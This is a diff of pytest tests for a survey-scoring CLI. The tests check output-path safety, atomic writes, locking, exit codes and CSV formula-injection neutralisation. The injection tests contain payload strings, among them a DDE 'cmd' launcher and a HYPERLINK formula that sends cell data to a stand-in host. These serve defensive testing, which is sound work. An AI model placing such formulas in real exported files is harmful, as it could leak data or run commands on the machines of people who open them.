@@ -1436,3 +1436,340 @@ def test_canaries_never_reach_the_files_the_cli_writes(tmp_path, capsys):
     for argv in runs:
         assert main(argv) == 0, capsys.readouterr().err
     assert _leaks(out) == []
+
+
+# ----------------------------------------------------------------------------- 2. outputs that are inputs
+
+
+@pytest.mark.parametrize("command", ["score", "reliability"])
+@pytest.mark.parametrize("how", ["same path", "relative path", "symbolic link", "hard link"])
+def test_out_naming_an_input_is_refused_and_the_input_kept(
+    tmp_path, capsys, monkeypatch, command, how
+):
+    import os
+
+    data = write_csv(tmp_path, items_frame())
+    before = data.read_bytes()
+    monkeypatch.chdir(tmp_path)
+    out = {
+        "same path": str(data),
+        "relative path": "./sub/../data.csv",
+        "symbolic link": str(tmp_path / "link.csv"),
+        "hard link": str(tmp_path / "hard.csv"),
+    }[how]
+    (tmp_path / "sub").mkdir()
+    if how == "symbolic link":
+        (tmp_path / "link.csv").symlink_to(data)
+    if how == "hard link":
+        os.link(data, tmp_path / "hard.csv")
+    code, line = cli_error(
+        capsys, [command, str(data), "--scale", "mentor_engagement", "--out", out]
+    )
+    assert code == 2 and "is the input file" in line and "overwrite your data" in line, line
+    assert data.read_bytes() == before
+
+
+def test_out_naming_the_columns_map_or_scale_file_is_refused(tmp_path, capsys):
+    data = write_csv(tmp_path, items_frame())
+    cmap = tmp_path / "map.csv"  # a YAML map may have any name
+    cmap.write_text("eng_1: eng_1\n")
+    code, line = cli_error(capsys, ["score", str(data), "--scale", "mentor_engagement",
+                                    "--columns", str(cmap), "--out", str(cmap)])  # fmt: skip
+    assert code == 2 and "is the input file" in line
+    assert cmap.read_text() == "eng_1: eng_1\n"
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")
+def test_evaluation_output_folder_cannot_hold_or_link_to_inputs(tmp_path, capsys):
+    cfg = eval_config(tmp_path, output=".")  # the config's own folder, holding the data
+    code, line = cli_error(capsys, ["evaluate", str(cfg)])
+    assert code == 2 and "holds the input file" in line, line
+    assert (tmp_path / "mentors.csv").exists() and (tmp_path / "evaluation.yaml").exists()
+    # an earlier report folder with a link planted among the tables, pointing at the data
+    cfg = eval_config(tmp_path)
+    out = run_evaluation(cfg).parent
+    data = tmp_path / "mentors.csv"
+    before = data.read_bytes()
+    (out / "tables" / "files.csv").unlink()
+    (out / "tables" / "files.csv").symlink_to(data)
+    code, line = cli_error(capsys, ["evaluate", str(cfg)])
+    assert code == 2 and "files this tool did not write" in line and "tables/files.csv" in line
+    assert data.read_bytes() == before
+
+
+# ----------------------------------------------------------------------------- 9. atomic, honest outputs
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")
+def test_a_full_disk_leaves_the_earlier_report_whole(tmp_path, capsys, monkeypatch):
+    import errno
+
+    import learning_direction.evaluation.output as output
+
+    cfg = eval_config(tmp_path)
+    first = run_evaluation(cfg).parent
+    snapshot = {p.relative_to(first): p.read_bytes() for p in first.rglob("*") if p.is_file()}
+    written = []
+    real = output._write
+
+    def full_after_three(path, data):
+        if len(written) == 3:
+            raise OSError(errno.ENOSPC, "No space left on device", str(path))
+        written.append(path)
+        real(path, data)
+
+    monkeypatch.setattr(output, "_write", full_after_three)
+    code, line = cli_error(capsys, ["evaluate", str(cfg), "--out", str(first)])
+    assert code == 2, line
+    assert "no space left on the device" in line and "nothing was changed" in line
+    after = {p.relative_to(first): p.read_bytes() for p in first.rglob("*") if p.is_file()}
+    assert after == snapshot  # not one file touched, no partial or 0-byte file
+    leftovers = [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")]
+    assert leftovers == []  # the temporary folder and the lock are gone
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")
+def test_a_new_run_replaces_the_folder_whole_and_says_so(tmp_path, capsys):
+    cfg = eval_config(tmp_path)
+    out = run_evaluation(cfg).parent
+    (out / "tables" / "stale_from_an_older_version.csv").write_text("x\n1\n")
+    (out / "figures" / "old.png").write_bytes(b"\x89PNG")
+    capsys.readouterr()
+    assert main(["evaluate", str(cfg)]) == 0
+    err = capsys.readouterr().err
+    assert "replaced the earlier outputs in" in err and "2 stale file(s)" in err
+    assert not (out / "tables" / "stale_from_an_older_version.csv").exists()
+    side = json.loads((out / "evaluation_report.json").read_text())
+    listed = {f"tables/{p.name}" for p in (out / "tables").iterdir()}
+    listed |= {f"figures/{p.name}" for p in (out / "figures").iterdir()}
+    assert listed == set(side["outputs"])  # every file listed, nothing stale
+    assert side["replaced"]["stale"] == [
+        "figures/old.png",
+        "tables/stale_from_an_older_version.csv",
+    ]
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")
+def test_a_folder_of_other_files_is_never_replaced(tmp_path, capsys):
+    cfg = eval_config(tmp_path)
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "thesis.docx").write_text("years of work")
+    code, line = cli_error(capsys, ["evaluate", str(cfg)])
+    assert code == 2 and "files this tool did not write (e.g. thesis.docx)" in line
+    assert (out / "thesis.docx").read_text() == "years of work"
+
+
+def test_two_runs_into_one_folder_are_kept_apart_by_a_lock(tmp_path):
+    from learning_direction._core.outputs import OutputFolder
+    from learning_direction.exceptions import OutputError
+
+    target = tmp_path / "out"
+    a = OutputFolder(target, inputs=[], owned=lambda f: ([], []), error=OutputError)
+    b = OutputFolder(target, inputs=[], owned=lambda f: ([], []), error=OutputError)
+    with a:
+        (a.path / "one.txt").write_text("a")
+        with pytest.raises(OutputError, match="another run is writing into"):
+            b.__enter__()
+        a.commit()
+    assert (target / "one.txt").read_text() == "a"
+    with b:  # free again once the first run is done
+        (b.path / "two.txt").write_text("b")
+        b.commit()
+    assert sorted(p.name for p in target.iterdir()) == ["two.txt"]
+    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no lock or temporary folder left
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")
+def test_concurrent_evaluations_into_one_folder(tmp_path):
+    """Two processes at once: one writes the report, the other is refused (or waits its turn);
+    the folder ends up holding one complete report."""
+    import subprocess
+    import sys
+
+    cfg = eval_config(tmp_path)
+    cmd = [sys.executable, "-m", "learning_direction.cli", "evaluate", str(cfg)]
+    procs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+             for _ in range(2)]  # fmt: skip
+    results = [(p.wait(timeout=600), p.stderr.read()) for p in procs]
+    codes = sorted(code for code, _ in results)
+    assert codes in ([0, 0], [0, 2]), results
+    for code, err in results:
+        if code == 2:
+            assert "another run is writing into" in err or "files this tool did not write" in err
+    side = json.loads((tmp_path / "out" / "evaluation_report.json").read_text())
+    for rel, digest in side["outputs"].items():
+        import hashlib
+
+        assert hashlib.sha256((tmp_path / "out" / rel).read_bytes()).hexdigest() == digest
+
+
+def test_score_out_is_written_whole_or_not_at_all(tmp_path, capsys, monkeypatch):
+    import errno
+
+    import learning_direction.cli as cli_mod
+
+    data = write_csv(tmp_path, items_frame())
+    out = tmp_path / "scores.csv"
+    out.write_text("the earlier scores\n")
+
+    def fail_midway(table, fh, rows=100_000):
+        fh.write(b"row,mentor_engagement\n0,4.5\n")
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(cli_mod, "_csv_rows", fail_midway)
+    code, line = cli_error(
+        capsys, ["score", str(data), "--scale", "mentor_engagement", "--out", str(out)]
+    )
+    assert code == 2 and "no space left" in line and "was not changed" in line
+    assert out.read_text() == "the earlier scores\n"
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
+
+
+# ----------------------------------------------------------------------------- 10. exit 2 for the user's input
+
+
+def _exit_2_cases(tmp: Path) -> dict[str, tuple[list[str], str]]:
+    data = write_csv(tmp, items_frame())
+    afile = tmp / "afile"
+    afile.write_text("not a folder")
+    huge = tmp / "huge.yaml"
+    huge.write_text(
+        "name: huge\nresponse: {min: 1, max: 1" + "0" * 400 + "}\nitems: [eng_1, eng_2]\n"
+    )
+    cp = tmp / "cp1252.yaml"
+    cp.write_bytes(
+        "name: cp\ntitle: Mentor’s view\nresponse: {min: 1, max: 7}\nitems: [eng_1, eng_2]\n".encode(
+            "cp1252"
+        )
+    )
+    cfg = eval_config(tmp)
+    return {
+        "scale max 10**400": (["score", str(data), "--scale", str(huge)], "must be a finite number"),
+        "scale file in Windows-1252": (["score", str(data), "--scale", str(cp)], "is not UTF-8 text"),
+        "--out under a file": (["score", str(data), "--scale", "mentor_engagement", "--out",
+                                str(afile / "s.csv")], "afile is a file, not a folder"),
+        "--out is a folder": (["score", str(data), "--scale", "mentor_engagement", "--out",
+                               str(tmp)], "use a file ending in .csv"),
+        "simulate --out a file": (["simulate", "study1", "--out", str(afile)],
+                                  "is an existing file, not a folder"),
+        "study --out a file": (["study", "study1", "--out", str(afile)], "is an existing file"),
+        "report --out a file": (["report", "--out", str(afile)], "is an existing file"),
+        "evaluate --out a file": (["evaluate", str(cfg), "--out", str(afile)],
+                                  "is an existing file, not a folder"),
+        "evaluate --out under a file": (["evaluate", str(cfg), "--out", str(afile / "r")],
+                                        "afile is a file, not a folder"),
+        "--n-boot 100000000": (["mediate", str(data), "--x", "eng_1", "--m", "eng_2", "--y",
+                                "eng_3", "--n-boot", "100000000"], "for the resampled statistics"),
+        "power --n-jobs 0": (["power", "--a", ".3", "--b", ".3", "--n", "50", "--n-jobs", "0"],
+                             "--n-jobs: must be 1 or more"),
+        "power --n-jobs -99": (["power", "--a", ".3", "--b", ".3", "--n", "50", "--n-jobs", "-99"],
+                               "--n-jobs: must be 1 or more"),
+    }  # fmt: skip
+
+
+EXIT_2_NAMES = [
+    "scale max 10**400", "scale file in Windows-1252", "--out under a file", "--out is a folder",
+    "simulate --out a file", "study --out a file", "report --out a file", "evaluate --out a file",
+    "evaluate --out under a file", "--n-boot 100000000", "power --n-jobs 0", "power --n-jobs -99",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", EXIT_2_NAMES)
+def test_the_users_input_at_fault_exits_2_naming_it(tmp_path, capsys, monkeypatch, name):
+    import learning_direction.cli as cli_mod
+
+    monkeypatch.setattr(cli_mod, "_available_memory", lambda: 8 * 10**9)
+    argv, needle = _exit_2_cases(tmp_path)[name]
+    code, line = cli_error(capsys, argv)
+    assert code == 2 and needle in line, line
+    assert "unexpected" not in line and "please report it" not in line
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")
+def test_read_only_output_folder_exits_2(tmp_path, capsys, monkeypatch):
+    import os
+
+    data = write_csv(tmp_path, items_frame())
+    ro = tmp_path / "ro"
+    ro.mkdir()
+    real_access = os.access
+    monkeypatch.setattr(
+        os, "access", lambda p, m, **k: False if Path(p) == ro else real_access(p, m, **k)
+    )
+    code, line = cli_error(
+        capsys, ["score", str(data), "--scale", "mentor_engagement", "--out", str(ro / "s.csv")]
+    )
+    assert code == 2 and "cannot write into" in line and "read-only" in line
+    cfg = eval_config(tmp_path)
+    code, line = cli_error(capsys, ["evaluate", str(cfg), "--out", str(ro / "report")])
+    assert code == 2 and "cannot write into" in line
+
+
+@pytest.mark.skipif(not hasattr(__import__("os"), "geteuid") or __import__("os").geteuid() == 0,
+                    reason="root can write into read-only folders")  # fmt: skip
+def test_read_only_output_folder_for_real(tmp_path, capsys):
+    data = write_csv(tmp_path, items_frame())
+    ro = tmp_path / "ro"
+    ro.mkdir()
+    ro.chmod(0o500)
+    try:
+        code, line = cli_error(
+            capsys, ["score", str(data), "--scale", "mentor_engagement", "--out", str(ro / "s.csv")]
+        )
+        assert code == 2 and "cannot write into" in line
+    finally:
+        ro.chmod(0o700)
+
+
+# ----------------------------------------------------------------------------- 13. CSV formula injection
+
+FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1:A9)", "\t=1", "\r=1"]  # fmt: skip
+
+
+def _cells(path: Path) -> list[str]:
+    import csv
+
+    with open(path, newline="", encoding="utf-8") as fh:
+        return [c for row in csv.reader(fh) for c in row]
+
+
+@pytest.mark.filterwarnings("ignore::UserWarning")
+def test_no_csv_cell_of_an_evaluation_starts_a_formula(tmp_path):
+    df = items_frame(36)
+    df["site"] = [FORMULAS[k % 4] for k in range(36)]  # group levels that are formulas
+    df = df.astype({"eng_3": object})
+    df.loc[2, "eng_3"] = "=1+1"  # an answer that is a formula
+    df.loc[3, "eng_3"] = "-5"  # an out-of-range number written as text stays a number
+    cfg = eval_config(tmp_path, df, groups={"site": "site"}, report={"min_group_size": 3})
+    out = run_evaluation(cfg).parent
+    bad = []
+    for f in sorted((out / "tables").glob("*.csv")):
+        for cell in _cells(f):
+            if cell.startswith(("=", "+", "@", "\t", "\r")) or (
+                cell.startswith("-") and not re.fullmatch(r"-[0-9.eE+-]+", cell)
+            ):
+                bad.append((f.name, cell))
+    assert bad == []
+    rates = _cells(out / "tables" / "response_rates.csv")
+    assert '\'=HYPERLINK("http://x.example/?"&A1,"click")' in rates
+    assert "'-2+3" in rates  # neutralised, OWASP style
+    scores = pd.read_csv(next((out / "tables").glob("scores_by_site_*.csv")))
+    assert pd.api.types.is_numeric_dtype(scores.select_dtypes("number").iloc[:, 0])
+    invalid = _cells(out / "tables" / "invalid_answers.csv")
+    assert "-5" in invalid and "=1+1" not in invalid
+    ledger = _cells(out / "tables" / "row_accounting.csv")
+    assert "rows analysed (total)" in ledger
+
+
+def test_cli_and_study_tables_neutralise_formula_cells(tmp_path):
+    from learning_direction.cli import _write_table
+    from learning_direction.reporting.tables import save_table
+
+    table = pd.DataFrame({"term": FORMULAS, "estimate": [-1.5, 2.0, -3.0, 0.0, 1.0, -0.25]})
+    for path in (_write_table(table, str(tmp_path / "a.csv"))[0],
+                 save_table(table, tmp_path / "b", formats=("csv",))[0]):  # fmt: skip
+        back = pd.read_csv(path)
+        assert back["estimate"].tolist() == [-1.5, 2.0, -3.0, 0.0, 1.0, -0.25]  # numbers stay
+        assert all(str(t).startswith("'") for t in back["term"])
